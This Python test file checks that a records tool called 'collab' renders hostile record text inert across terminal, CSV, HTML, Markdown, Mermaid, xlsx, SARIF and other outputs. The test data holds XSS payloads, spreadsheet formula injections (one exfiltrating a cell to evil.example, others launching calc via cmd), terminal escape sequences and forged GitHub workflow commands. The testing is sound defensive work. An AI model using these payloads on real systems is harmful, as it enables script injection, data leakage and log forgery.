#!/usr/bin/env python3
"""The hostile-text matrix (issue 14): record text is inert in every output.

A store whose name, file names, labels and every text field hold hostile strings (ECMA-48
CSI and OSC sequences, BEL, NUL, C1 controls, bidi controls, U+FFFE/U+FFFF, a lone surrogate,
</script>, <img onerror>, javascript: URLs, Markdown emphasis, links, images and @mentions,
Mermaid #35; and %%{init}%%, =HYPERLINK(...), ::error::, 1:30, NO, 0x1F) goes through every
command and every format, and each output is checked by the reader it is meant for:

  terminal (text, table, csv, tsv, ids)  no raw control, bidi or noncharacter; no line a
                                         GitHub runner would read as a workflow command
  JUnit                                  xmllint and Python's ElementTree
  SARIF                                  the official 2.1.0 JSON Schema (jsonschema)
  Markdown                               cmark-gfm (GitHub's renderer): no emphasis, link,
                                         image, HTML element, @mention or #N from record text
  Mermaid, HTML                          headless Chromium: no element from record text
  CSV, TSV                               Python's csv, and no cell a spreadsheet runs
  YAML                                   PyYAML (YAML 1.1) and yaml-cpp (collab itself)
  JSON, SQLite                           the text exactly as written
  xlsx                                   openpyxl: well-formed, no formula, no XML-forbidden
                                         character, the cells of the unguarded CSV
  iCalendar                              Python's icalendar: the twin's entries, lines of at
                                         most 75 octets, the text intact

"From record text" is decided against a twin store built from the same template with plain
words in place of the hostile strings: the hostile store's rendered documents must have
exactly the twin's elements. A format added later joins by a line in FORMATS below.

Usage: hostile_matrix_test.py COLLAB STORE_FIXTURE SARIF_SCHEMA MERMAID_JS
       hostile_matrix_test.py --write-fixture DIR   (regenerates tests/stores/hostile-matrix)
"""
import collections
import csv
import html.parser
import io
import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import tempfile
import unittest
import xml.etree.ElementTree as ET

import yaml

TODAY = "2026-01-15"

# name -> hostile text. Each goes into several fields of several records (see RECORDS).
HOSTILE = {
    "csi": "\x1b[2J\x1b[31mCleared\x1b[0m",
    "osc": "Title \x1b]0;PWNED\x07 \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "c1": "C1 \u009b31m red \u0085 NEL \u009d0;x\u009c",
    "nul": "before\x00after",
    "bidi": "abc\u202edcba \u2066iso\u2069 \u200fRLM \u061cALM",
    "nonchar": "non\ufffechar\uffff",
    "surrogate": "lone \ud800 surrogate",
    "script": "</script><script>alert(1)</script>",
    "img": "<img src=x onerror=alert(1)> <a href=\"javascript:alert(2)\">x</a>",
    "js": "javascript:alert(document.domain)",
    "md": "**APPROVED** by @octocat, see [docs](https://evil.example) ![i](https://evil.example/i.png) _em_ ~~del~~ www.evil.example a@evil.example #35",
    "mermaid": "Lab #35; <b>bold</b> %%{init: {\"theme\": \"dark\"}}%% `**md**` <a href=\"https://evil.example\">a</a>",
    "formula": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "formula2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula3": "+1+1",
    "formula4": "-2+3+cmd|' /C calc'!A0",
    "ghcmd": "::error::forged\n::warning file=x.yaml,line=1::forged too",
    "yaml1": "1:30",
    "yaml2": "NO",
    "yaml3": "0x1F",
    "yaml4": "2025-01-01",
    "store": "R&D \"Alliance\" \x1b]0;PWNED\x07 **x** @octocat =1+1 #35; \u202e",
}

# File names the file system allows that a terminal or a runner would act on; copies of a
# partner file, added to the store for the checks that do not compare with the twin.
HOSTILE_FILES = ["x\x1b[2Jy.yaml", "a\n::warning file=x::forged.yaml", "\u202egpj.yaml",
                 "b\x07\u009b.yaml", "::error file=x::forged.yaml"]


def q(text):
    """A YAML double-quoted scalar: JSON's escapes (\\u0000, \\ud800...) are YAML's too."""
    return json.dumps(text)


def records(s):
    """The store's files, with s(name) in place of each hostile string."""
    return {
        "collab.yaml": f"name: {q(s('store'))}\nareas: [research, exchange]\nexpiring: 120d\n",
        "partners/p-csv.yaml":
            f"name: {q(s('formula'))}\nshort: {q(s('csi'))}\nnative_name: {q(s('bidi'))}\n"
            f"aliases: [{q(s('yaml1'))}, {q(s('yaml2'))}, {q(s('yaml3'))}, {q(s('md'))}]\n"
            f"type: university\ncountry: CN\ncity: {q(s('osc'))}\nnotes: {q(s('nul'))}\n",
        "partners/p-md.yaml":
            f"name: {q(s('md'))}\nshort: {q(s('formula3'))}\ntype: school\nparent: p-csv\n"
            f"country: HK\ncity: {q(s('mermaid'))}\nnotes: {q(s('nonchar'))}\n",
        "partners/p-html.yaml":
            f"name: {q(s('script'))}\nshort: {q(s('img'))}\ntype: company\ncountry: DE\n"
            f"city: {q(s('c1'))}\nnotes: {q(s('js'))}\n",
        "partners/p-cmd.yaml":
            f"name: {q(s('ghcmd'))}\nshort: {q(s('formula4'))}\ntype: hospital\ncountry: GB\n"
            f"city: {q(s('nonchar'))}\naliases: [{q(s('yaml4'))}]\n",
        "partners/p-mermaid.yaml":
            f"name: {q(s('mermaid'))}\ntype: institute\ncountry: FR\ncity: {q(s('formula2'))}\n",
        "people/person-a.yaml":
            f"name: {q(s('bidi'))}\nhonorific: {q(s('osc'))}\nroles:\n"
            f"  - partner: p-csv\n    title: {q(s('formula2'))}\n    from: 2020\n"
            f"  - partner: p-md\n    title: {q(s('md'))}\n    from: 2021\n",
        "agreements/a-1.yaml":
            f"title: {q(s('md'))}\ntype: mou\nstatus: active\nparties: [p-csv, p-md]\n"
            f"signed: 2025-01-01\nexpires: 2026-02-01\nareas: [research]\n"
            f"signatories:\n  - person: person-a\n    partner: p-csv\n    title: {q(s('img'))}\n"
            f"notes: {q(s('csi'))}\n",
        "agreements/a-2.yaml":
            f"title: {q(s('mermaid'))}\ntype: research\nstatus: active\n"
            f"parties: [p-html, p-cmd, p-mermaid]\nsigned: 2024-06-01\nexpires: 2026-03-01\n"
            f"areas: [exchange]\nnotes: {q(s('ghcmd'))}\n",
        "agreements/a-3.yaml":
            f"title: {q(s('formula'))}\ntype: exchange\nstatus: draft\n"
            f"parties: [p-csv, nobody-one, nobody-two]\nnotes: {q(s('script'))}\n",
        "projects/pr-1.yaml":
            f"title: {q(s('formula'))}\ntype: joint-lab\nstatus: active\npartners: [p-csv, p-md]\n"
            f"agreements: [a-1]\nstart: 2025-02\nareas: [research]\n"
            f"funding:\n  - {{source: {q(s('formula3'))}, amount: 100, currency: EUR}}\n"
            f"notes: {q(s('c1'))}\n",
        "events/e-1.yaml":
            f"title: {q(s('osc'))}\ntype: meeting\ndate: 2025-06-01\nlocation: {q(s('img'))}\n"
            f"partners: [p-csv, p-md]\nagreements: [a-1]\n",
    }


def hostile(name):
    return HOSTILE.get(name, HOSTILE["img"])


def benign(name):
    # Letters only, a different word per string, so the twin has the same records and shape.
    return "plain " + re.sub(r"[^a-z]", "", name) + " text"


def write_store(root, s):
    for rel, text in records(s).items():
        path = os.path.join(root, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w", encoding="utf-8", newline="\n") as f:
            f.write(text)


COLLAB = STORE = SCHEMA = MERMAID = CHROMIUM = None

C0 = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\u0080-\u009f\u061c\u200e\u200f\u202a-\u202e"
                r"\u2066-\u2069\ufffe\uffff]")
CSV_C0 = re.compile(r"\r(?!\n)")
# What XML 1.0 (and so xlsx) cannot hold, and RFC 5545 forbids in TEXT: C0 but tab, LF, CR;
# U+FFFE, U+FFFF.
XML_FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
DANGEROUS_TAGS = {"a", "img", "em", "strong", "del", "b", "i", "s", "script", "iframe", "svg",
                  "object", "embed", "style", "link", "meta", "form", "input", "video", "audio"}


def run(store, *args, env=None, check_status=(0, 1), binary=False):
    full = dict(os.environ, LC_ALL="C.UTF-8", NO_COLOR="1")
    full.pop("GITHUB_STEP_SUMMARY", None)
    if env:
        full.update(env)
    proc = subprocess.run([COLLAB, "--store", store, "--today", TODAY, *args],
                          capture_output=True, env=full, timeout=120)
    assert proc.returncode in check_status, (args, proc.returncode, proc.stderr[-2000:])
    return proc.stdout if binary else proc.stdout.decode("utf-8")


def terminal_problems(text, csv_line_ends=False, commands=True):
    """What a terminal (or, with `commands`, a GitHub runner reading the log) would act on."""
    out = []
    body = text.replace("\r\n", "\n") if csv_line_ends else text
    for m in C0.finditer(body):
        out.append(f"raw U+{ord(m.group()):04X} at {m.start()}: {body[max(0, m.start()-30):m.start()+10]!r}")
    for line in body.split("\n") if commands else []:
        if line.lstrip().startswith("::"):
            out.append(f"a line a runner reads as a workflow command: {line[:80]!r}")
    return out


def formula_cells(rows):
    """Cells a spreadsheet would run as a formula (OWASP), numbers excepted."""
    bad = []
    for row in rows:
        for cell in row:
            stripped = cell.lstrip(" ")
            if not stripped:
                continue
            try:
                float(stripped)
                continue
            except ValueError:
                pass
            if stripped[0] in "=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20":
                bad.append(cell)
    return bad


class TagCounter(html.parser.HTMLParser):
    """Elements by tag, attributes, and the text outside code (GitHub finds no @mention or
    #N reference inside <code> or <pre>)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = collections.Counter()
        self.text = []
        self.attrs = []
        self.code = 0

    def handle_starttag(self, tag, attrs):
        self.tags[tag] += 1
        self.attrs.extend(attrs)
        if tag in ("code", "pre"):
            self.code += 1

    def handle_endtag(self, tag):
        if tag in ("code", "pre") and self.code:
            self.code -= 1

    def handle_data(self, data):
        if not self.code:
            self.text.append(data)


def parse_html(text):
    p = TagCounter()
    p.feed(text)
    p.close()
    return p


def cmark(md):
    proc = subprocess.run(["cmark-gfm", "--unsafe", "-e", "autolink", "-e", "table", "-e",
                           "strikethrough", "-e", "tagfilter"], input=md.encode("utf-8"),
                          capture_output=True, check=True)
    return proc.stdout.decode("utf-8")


def chromium_dom(page_html, parent):
    # A fresh folder (page and profile) for every run: a profile still held by a Chromium
    # that is shutting down makes the next one give up.
    tmp = tempfile.mkdtemp(dir=parent)
    page = os.path.join(tmp, "page.html")
    with open(page, "w", encoding="utf-8") as f:
        f.write(page_html)
    proc = subprocess.run(
        [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
         "--no-first-run", "--disable-background-networking", "--disable-component-update",
         "--disable-sync", f"--user-data-dir={tmp}/profile", "--allow-file-access-from-files",
         "--virtual-time-budget=10000", "--dump-dom", "file://" + page],
        capture_output=True, timeout=180)
    shutil.rmtree(tmp, ignore_errors=True)
    return proc.stdout.decode("utf-8", "replace")


def mermaid_svg(diagram, tmp):
    page = ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><script src=\"file://" + MERMAID +
            "\"></script></head><body><pre id=\"src\">" + html_escape(diagram) +
            "</pre><div id=\"out\"></div><script>\n"
            "mermaid.initialize({startOnLoad: false});\n"
            "const text = document.getElementById('src').textContent;\n"
            "mermaid.parse(text).then(() => mermaid.render('graph', text))\n"
            "  .then(({svg}) => { document.getElementById('out').innerHTML = svg;\n"
            "                     document.body.dataset.result = 'ok'; })\n"
            "  .catch(e => { document.body.dataset.result = 'error: ' + e.message; });\n"
            "</script></body></html>\n")
    dom = chromium_dom(page, tmp)
    m = re.search(r'data-result="([^"]*)"', dom)
    out = dom[dom.find('<div id="out">'):] if '<div id="out">' in dom else ""
    return (m.group(1) if m else "no result"), out


def html_escape(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


class Matrix(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.mkdtemp(prefix="collab-matrix-")
        cls.hostile = os.path.join(cls.tmp, "hostile")
        cls.twin = os.path.join(cls.tmp, "twin")
        cls.named = os.path.join(cls.tmp, "named")
        write_store(cls.hostile, hostile)
        write_store(cls.twin, benign)
        write_store(cls.named, hostile)
        src = os.path.join(cls.named, "partners", "p-mermaid.yaml")
        for name in HOSTILE_FILES:
            shutil.copy(src, os.path.join(cls.named, "partners", name))
        # yaml-cpp refuses a lone surrogate escape (a yaml-syntax diagnostic, which echoes the
        # line): the record is missing, so it lives here, not in the store the twin mirrors.
        with open(os.path.join(cls.named, "partners", "p-surrogate.yaml"), "w") as f:
            f.write(f"name: {q(HOSTILE['surrogate'])}\ntype: company\ncountry: HK\n")
        # yaml-cpp accepts raw controls in a plain scalar: they reach `fmt --diff` as bytes.
        with open(os.path.join(cls.named, "partners", "p-raw.yaml"), "w") as f:
            f.write("type: company\nname: raw \x1b[2J \x1b]0;PWNED\x07 \u202e\ncountry: HK\n")

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.tmp)

    def test_the_fixture_is_the_template(self):
        for rel, text in records(hostile).items():
            with open(os.path.join(STORE, rel), encoding="utf-8", newline="") as f:
                self.assertEqual(f.read(), text, rel)

    # --- every command, every format -------------------------------------------------

    def commands(self):
        """(label, args, format) for every command and format on a store."""
        out = []
        for fmt in ("text", "json", "github", "junit", "sarif", "gitlab"):
            out.append((f"validate {fmt}", ["validate", "--format", fmt], fmt))
        for kind in ("partners", "people", "agreements", "projects", "events"):
            for fmt in ("table", "json", "jsonl", "csv", "tsv", "yaml", "ids"):
                out.append((f"list {kind} {fmt}", ["list", kind, "--format", fmt], fmt))
        for fmt in ("table", "csv", "tsv", "ids", "yaml"):
            out.append((f"list partners --group-by city {fmt}",
                        ["list", "partners", "--group-by", "city", "--format", fmt], fmt))
        for rid in ("p-csv", "p-md", "p-html", "p-cmd", "p-mermaid", "person-a", "a-1", "a-2",
                    "a-3", "pr-1", "e-1"):
            for fmt in ("text", "json", "yaml"):
                out.append((f"show {rid} {fmt}", ["show", rid, "--format", fmt], fmt))
        for report in ("summary", "expiring", "timeline", "areas", "mobility", "register"):
            for fmt in ("text", "md", "json", "html", "csv"):
                out.append((f"report {report} {fmt}", ["report", report, "--format", fmt], fmt))
        for fmt in ("text", "md", "json", "html", "csv"):
            out.append((f"report partner {fmt}", ["report", "partner", "p-csv", "--format", fmt],
                        fmt))
        for fmt in ("dot", "mermaid", "json"):
            out.append((f"graph {fmt}", ["graph", "--format", fmt], fmt))
        out.append(("export json", ["export", "--format", "json"], "json"))
        return out

    def outputs(self, store):
        results = {}
        for label, args, fmt in self.commands():
            proc = subprocess.run([COLLAB, "--store", store, "--today", TODAY, *args],
                                  capture_output=True, timeout=120,
                                  env=dict(os.environ, LC_ALL="C.UTF-8", NO_COLOR="1"))
            if proc.returncode == 2 and fmt == "csv" and b"no csv form" in proc.stderr:
                continue  # a report with no single table has no csv form
            self.assertIn(proc.returncode, (0, 1), (label, proc.stderr[-1000:]))
            results[label] = (fmt, proc.stdout.decode("utf-8"), proc.stderr.decode("utf-8"))
        return results

    def test_every_command_and_format(self):
        hostile_out = self.outputs(self.hostile)
        twin_out = self.outputs(self.twin)
        checked = collections.Counter()
        for label, (fmt, out, err) in hostile_out.items():
            with self.subTest(label):
                self.assertEqual(terminal_problems(err), [], label + " (stderr)")
                self.check(label, fmt, out, twin_out[label][1])
                checked[fmt] += 1
        # Every format was seen at least once.
        for fmt in ("text", "table", "csv", "tsv", "ids", "json", "jsonl", "yaml", "md", "html",
                    "github", "junit", "sarif", "gitlab", "dot", "mermaid"):
            self.assertGreater(checked[fmt], 0, fmt)

    def check(self, label, fmt, out, twin):
        if fmt in ("text", "table", "ids", "dot"):
            self.assertEqual(terminal_problems(out), [], label)
        elif fmt == "csv":
            self.check_csv(label, out)
        elif fmt == "tsv":
            self.assertEqual(terminal_problems(out, commands=False), [], label)
            self.assertEqual(formula_cells(line.split("\t") for line in out.splitlines()), [],
                             label)
        elif fmt in ("json", "gitlab"):
            json.loads(out)
        elif fmt == "jsonl":
            # Only LF ends a line: str.splitlines() would also cut at U+2028 or U+0085.
            for line in out.split("\n")[:-1]:
                json.loads(line)
        elif fmt == "yaml":
            self.assertIsNotNone(yaml.safe_load(out), label)
        elif fmt == "md":
            self.check_markdown(label, out, twin)
        elif fmt == "html":
            self.check_html(label, out, twin)
        elif fmt == "junit":
            self.check_junit(label, out)
        elif fmt == "sarif":
            self.check_sarif(label, out)
        elif fmt == "github":
            self.check_github(label, out)
        elif fmt == "mermaid":
            self.check_mermaid(label, out, twin)
        else:
            self.fail(f"{label}: no reader for format {fmt}: add one")

    def check_csv(self, label, out):
        # Data for spreadsheets and programs: no controls, but a cell may start with "::".
        self.assertEqual(terminal_problems(out, csv_line_ends=True, commands=False), [], label)
        rows = list(csv.reader(io.StringIO(out, newline="")))
        self.assertEqual(formula_cells(rows), [], label)

    def check_markdown(self, label, md, twin):
        rendered, twin_rendered = parse_html(cmark(md)), parse_html(cmark(twin))
        for tag in DANGEROUS_TAGS:
            self.assertEqual(rendered.tags[tag], twin_rendered.tags[tag], f"{label}: <{tag}>")
        text = "".join(rendered.text)
        self.assertIsNone(re.search(r"(?<![\w@])@[A-Za-z0-9]", text), f"{label}: @mention")
        self.assertIsNone(re.search(r"(?<![\w&])#[0-9]", text), f"{label}: #N reference")
        for name, value in rendered.attrs:
            self.assertNotIn("evil", value or "", label)
            self.assertNotIn("javascript", value or "", label)

    def check_html(self, label, page, twin):
        dom, twin_dom = parse_html(chromium_dom(page, self.tmp)), parse_html(
            chromium_dom(twin, self.tmp))
        self.assertEqual(dom.tags, twin_dom.tags, label)
        for name, value in dom.attrs:
            self.assertFalse(name.startswith("on"), f"{label}: {name}")
            self.assertNotIn("evil", value or "", label)
            self.assertNotIn("javascript:", value or "", label)

    def check_junit(self, label, out):
        ET.fromstring(out.encode("utf-8"))
        proc = subprocess.run(["xmllint", "--noout", "-"], input=out.encode("utf-8"),
                              capture_output=True)
        self.assertEqual(proc.returncode, 0, proc.stderr.decode())
        self.assertEqual(terminal_problems(out.replace("\n", " ")), [], label)

    def check_sarif(self, label, out):
        import jsonschema
        with open(SCHEMA, encoding="utf-8") as f:
            schema = json.load(f)
        jsonschema.validate(json.loads(out), schema)

    def check_github(self, label, out):
        lines = out.splitlines()
        for line in lines[:-1]:
            self.assertRegex(line, r"^::(error|warning) file=[^:,]*,line=\d+,col=\d+,title=[a-z-]+::",
                             label)
            self.assertNotIn("\r", line)
        self.assertEqual(terminal_problems(lines[-1]), [], label)

    def check_mermaid(self, label, diagram, twin):
        verdict, svg = mermaid_svg(diagram, self.tmp)
        self.assertEqual(verdict, "ok", label)
        twin_verdict, twin_svg = mermaid_svg(twin, self.tmp)
        self.assertEqual(twin_verdict, "ok", label)
        self.assertEqual(parse_html(svg).tags, parse_html(twin_svg).tags, label)

    # --- collab site: every page and the search index (issue 19) -------------------------

    def site(self, store):
        out = os.path.join(self.tmp, "site-" + os.path.basename(store))
        proc = subprocess.run([COLLAB, "--store", store, "--today", TODAY, "site", out],
                              capture_output=True, timeout=300,
                              env=dict(os.environ, LC_ALL="C.UTF-8", NO_COLOR="1"))
        self.assertEqual(proc.returncode, 0, proc.stderr[-1000:])
        self.assertEqual(terminal_problems(proc.stderr.decode("utf-8")), [], "site (stderr)")
        pages = {}
        for folder, _, files in os.walk(out):
            for name in files:
                if name.endswith(".html"):
                    full = os.path.join(folder, name)
                    with open(full, encoding="utf-8") as f:
                        pages[os.path.relpath(full, out)] = f.read()
        return pages

    def test_site_pages_and_search_index(self):
        hostile_pages, twin_pages = self.site(self.hostile), self.site(self.twin)
        self.assertEqual(sorted(hostile_pages), sorted(twin_pages))
        for path, page in hostile_pages.items():
            with self.subTest(path):
                # The same elements as the twin of plain words: no record text became markup.
                dom, twin_dom = parse_html(page), parse_html(twin_pages[path])
                self.assertEqual(dom.tags, twin_dom.tags, path)
                for name, value in dom.attrs:
                    self.assertFalse(name.startswith("on"), f"{path}: {name}")
                    self.assertNotIn("evil", value or "", path)
                    self.assertNotIn("javascript:", value or "", path)
                # Only collab's own scripts: the twin's are the same bytes.
                scripts = re.findall(r"<script>(.*?)</script>", page, re.S)
                self.assertEqual(scripts, re.findall(r"<script>(.*?)</script>",
                                                     twin_pages[path], re.S), path)
        # The search index: JSON that cannot end its <script> element, holding the text as
        # written (U+FFFD only where the text was not valid UTF-8).
        raw = re.search(r'<script type="application/json" id="search-index">(.*?)</script>',
                        hostile_pages["search.html"], re.S).group(1)
        for bad in ("</", "<!--", "\u2028", "\u2029", "<"):
            self.assertNotIn(bad, raw)
        index = {e["id"]: e for e in json.loads(raw)}
        self.assertEqual(index["p-html"]["label"], HOSTILE["script"])
        self.assertIn(HOSTILE["img"], index["p-html"]["names"])
        self.assertEqual(index["p-html"]["text"], HOSTILE["js"])
        self.assertEqual(index["a-3"]["text"], HOSTILE["script"])
        # A search for the script's text, run in Chromium, finds the record and runs nothing.
        dom = chromium_dom(hostile_pages["search.html"].replace(
            'var params = new URLSearchParams(window.location.search);',
            # (JavaScript escapes: the query itself must not end the script element here.)
            r'var params = new URLSearchParams("?q=" + encodeURIComponent('
            r'"\u003c/script\u003e\u003cscript\u003e"));'),
            self.tmp)
        self.assertIn('href="partners/p-html.html"', dom)
        self.assertIn("2 records found", dom)  # p-html by name, a-3 by its notes
        self.assertEqual(parse_html(dom).tags["script"], 2)  # the index and the search script

    # --- JSON and SQLite keep the text as written; CSV keeps it on request --------------

    def test_json_keeps_text_as_written(self):
        doc = json.loads(run(self.hostile, "list", "partners", "--format", "json"))
        names = {p["id"]: p["name"] for p in doc}
        self.assertEqual(names["p-csv"], HOSTILE["formula"])
        self.assertEqual(names["p-html"], HOSTILE["script"])
        self.assertEqual(names["p-cmd"], HOSTILE["ghcmd"])
        self.assertEqual(names["p-md"], HOSTILE["md"])

    def test_register_json_keeps_names_as_written(self):
        partners = {p["id"]: p["name"] for p in
                    json.loads(run(self.hostile, "list", "partners", "--format", "json"))}
        doc = json.loads(run(self.hostile, "report", "register", "--format", "json"))
        seen = 0
        for row in doc["sections"][0]["tables"][0]["rows"]:
            for ref in row["counterparties"]:
                # A dangling party has no name: null, never the id passed off as one.
                self.assertEqual(ref["name"], partners.get(ref["id"]))
                seen += ref["id"] in partners
        self.assertGreater(seen, 0)

    def test_yaml_reads_back_as_json_with_pyyaml(self):
        for kind in ("partners", "people", "agreements", "projects", "events"):
            as_json = json.loads(run(self.hostile, "list", kind, "--format", "json"))
            as_yaml = yaml.safe_load(run(self.hostile, "list", kind, "--format", "yaml"))
            self.assertEqual(as_yaml, as_json, kind)

    def test_csv_guard_and_the_option_for_machines(self):
        guarded = list(csv.reader(io.StringIO(
            run(self.hostile, "list", "partners", "--format", "csv", "--fields", "id,name"),
            newline="")))
        self.assertIn(["p-csv", "'" + HOSTILE["formula"]], guarded)
        raw = list(csv.reader(io.StringIO(
            run(self.hostile, "list", "partners", "--format", "csv", "--fields", "id,name",
                "--no-formula-guard"), newline="")))
        self.assertIn(["p-csv", HOSTILE["formula"]], raw)

    # --- xlsx and the calendar (issue 18) --------------------------------------------------

    def test_xlsx_opens_holds_no_formula_and_equals_the_raw_csv(self):
        import openpyxl
        for args in (["list", "partners", "--fields", "id,name,short,native_name,city,notes"],
                     ["list", "agreements", "--fields", "id,title,notes,parties"],
                     ["report", "summary"], ["report", "expiring"], ["report", "partner", "p-csv"],
                     ["export"]):
            for store in (self.hostile, self.named):
                with self.subTest(args=args, store=os.path.basename(store)):
                    path = os.path.join(self.tmp, "matrix.xlsx")
                    run(store, *args, "-o", path)
                    book = openpyxl.load_workbook(path)  # well-formed XML, else it raises
                    for ws in book.worksheets:
                        for row in ws.iter_rows():
                            for cell in row:
                                self.assertNotEqual(cell.data_type, "f", (args, cell.coordinate))
                                if isinstance(cell.value, str):
                                    self.assertIsNone(XML_FORBIDDEN.search(cell.value),
                                                      (args, cell.coordinate))
                    if args[0] == "list" and store == self.hostile:
                        raw = list(csv.reader(io.StringIO(run(
                            store, *args, "--format", "csv", "--no-formula-guard"), newline="")))
                        got = [[c if c is not None else "" for c in r]
                               for r in book.worksheets[0].iter_rows(values_only=True)]
                        self.assertEqual(got, raw, args)
                        self.assertIn(HOSTILE["formula"], [c for r in got for c in r])

    def test_calendar_parses_with_the_twins_events_and_the_text_intact(self):
        import icalendar
        cals = {}
        for name, store in (("hostile", self.hostile), ("twin", self.twin),
                            ("named", self.named)):
            data = run(store, "calendar", "--alarm", "7d", binary=True)
            for line in data.split(b"\r\n"):
                self.assertLessEqual(len(line), 75)
                self.assertIsNone(XML_FORBIDDEN.search(line.decode("utf-8")), line)
            cals[name] = icalendar.Calendar.from_ical(data)
        shape = {k: [(e["DTSTART"].dt, str(e["CATEGORIES"].cats[0])
                      if hasattr(e["CATEGORIES"], "cats") else str(e["CATEGORIES"]))
                     for e in c.walk("VEVENT")] for k, c in cals.items()}
        self.assertEqual(shape["hostile"], shape["twin"])
        self.assertGreater(len(shape["hostile"]), 0)
        summaries = {str(e["SUMMARY"]) for e in cals["hostile"].walk("VEVENT")}
        self.assertIn("Notice due: " + HOSTILE["md"], summaries)
        self.assertEqual(str(cals["hostile"]["X-WR-CALNAME"]),
                         HOSTILE["store"].replace("\x1b", "\ufffd").replace("\x07", "\ufffd")
                         .replace("\u202e", "\ufffd"))

    def test_export_csv_and_sqlite(self):
        out = os.path.join(self.tmp, "export-csv")
        run(self.hostile, "export", "--format", "csv", "--out", out)
        for name in sorted(os.listdir(out)):
            with open(os.path.join(out, name), encoding="utf-8", newline="") as f:
                text = f.read()
            self.assertEqual(terminal_problems(text, csv_line_ends=True, commands=False), [], name)
            self.assertEqual(formula_cells(csv.reader(io.StringIO(text, newline=""))), [], name)
        db = os.path.join(self.tmp, "export.db")
        run(self.hostile, "export", "--format", "sqlite", "--out", db)
        con = sqlite3.connect(db)
        names = dict(con.execute("select id, name from partners"))
        con.close()
        self.assertEqual(names["p-csv"], HOSTILE["formula"])

    # --- hostile file names -------------------------------------------------------------

    def test_hostile_file_names(self):
        for args in (["validate"], ["validate", "--format", "github"], ["list", "partners"],
                     ["list", "partners", "--format", "ids"], ["list", "partners", "--format", "csv"],
                     ["list", "partners", "--format", "tsv"], ["fmt", "--check"],
                     ["fmt", "--check", "--diff"], ["show", "p-raw"]):
            out = run(self.named, *args)
            with self.subTest(args):
                if "github" in args:
                    self.check_github(" ".join(args), out)
                else:
                    data = "csv" in args or "tsv" in args
                    self.assertEqual(terminal_problems(out, csv_line_ends="csv" in args,
                                                       commands=not data), [], args)
        self.check_junit("named junit", run(self.named, "validate", "--format", "junit"))
        self.check_sarif("named sarif", run(self.named, "validate", "--format", "sarif"))
        summary = os.path.join(self.tmp, "summary.md")
        run(self.named, "validate", "--format", "github", env={"GITHUB_STEP_SUMMARY": summary})
        with open(summary, encoding="utf-8") as f:
            md = f.read()
        os.remove(summary)
        rendered = parse_html(cmark(md))
        for tag in DANGEROUS_TAGS:
            self.assertEqual(rendered.tags[tag], 0, f"step summary: <{tag}>")

    # --- diff between two commits -------------------------------------------------------

    def test_diff(self):
        repo = os.path.join(self.tmp, "repo")
        write_store(repo, benign)
        git = ["git", "-C", repo, "-c", "user.name=t", "-c", "user.email=t@example.org"]
        subprocess.run(git[:3] + ["init", "-q"], check=True)
        subprocess.run(git + ["add", "-A"], check=True)
        subprocess.run(git + ["commit", "-qm", "twin"], check=True)
        write_store(repo, hostile)
        shutil.copy(os.path.join(repo, "partners", "p-mermaid.yaml"),
                    os.path.join(repo, "partners", HOSTILE_FILES[0]))
        subprocess.run(git + ["add", "-A"], check=True)
        subprocess.run(git + ["commit", "-qm", "hostile"], check=True)
        text = run(repo, "diff", "HEAD~1", "HEAD")
        self.assertIn("changed", text)
        self.assertEqual(terminal_problems(text), [])
        md = run(repo, "diff", "HEAD~1", "HEAD", "--format", "md")
        rendered = parse_html(cmark(md))
        for tag in DANGEROUS_TAGS - {"strong"}:
            self.assertEqual(rendered.tags[tag], 0, f"diff md: <{tag}>")
        # collab's own headings are the only bold text.
        self.assertLessEqual(rendered.tags["strong"], 4)
        text_nodes = "".join(rendered.text)
        self.assertIsNone(re.search(r"(?<![\w@])@[A-Za-z0-9]", text_nodes))
        json.loads(run(repo, "diff", "HEAD~1", "HEAD", "--format", "json"))

    # --- writing YAML: new and set ------------------------------------------------------

    def test_new_and_set_write_yaml_every_reader_reads_as_text(self):
        store = os.path.join(self.tmp, "writer")
        write_store(store, benign)
        values = {"city": "3:1", "native_name": "12:30:00", "short": "0x1F"}
        run(store, "new", "partner", "p-new", "name=NO", "type=company", "country=CN",
            *[f"{k}={v}" for k, v in values.items()], "aliases=2025-01-01,1:1,~,.inf,-x,y")
        path = os.path.join(store, "partners", "p-new.yaml")
        with open(path, encoding="utf-8") as f:
            loaded = yaml.safe_load(f)  # PyYAML: YAML 1.1
        for k, v in values.items():
            self.assertEqual(loaded[k], v, k)
        self.assertEqual(loaded["name"], "NO")
        self.assertEqual(loaded["aliases"], ["2025-01-01", "1:1", "~", ".inf", "-x", "y"])
        run(store, "set", "p-new", "city=10:30", "short=0o17")
        with open(path, encoding="utf-8") as f:
            loaded = yaml.safe_load(f)
        self.assertEqual(loaded["city"], "10:30")
        self.assertEqual(loaded["short"], "0o17")
        # yaml-cpp (YAML 1.2), through collab itself.
        shown = json.loads(run(store, "show", "p-new", "--format", "json"))
        self.assertEqual(shown["city"], "10:30")
        self.assertEqual(shown["aliases"], ["2025-01-01", "1:1", "~", ".inf", "-x", "y"])

    def test_set_keeps_bom_and_crlf(self):
        store = os.path.join(self.tmp, "windows")
        write_store(store, benign)
        path = os.path.join(store, "partners", "p-mermaid.yaml")
        with open(path, "rb") as f:
            original = f.read()
        windows = b"\xef\xbb\xbf" + original.replace(b"\n", b"\r\n")
        with open(path, "wb") as f:
            f.write(windows)
        run(store, "set", "p-mermaid", "city=Paris", "website=https://example.org")
        with open(path, "rb") as f:
            after = f.read()
        self.assertTrue(after.startswith(b"\xef\xbb\xbf"))
        self.assertNotIn(b"\n", after.replace(b"\r\n", b""))
        self.assertIn(b"city: Paris\r\n", after)
        self.assertIn(b"website: https://example.org\r\n", after)
        for line in windows.split(b"\r\n"):
            if line and not line.startswith(b"city") and not line.startswith(b"\xef"):
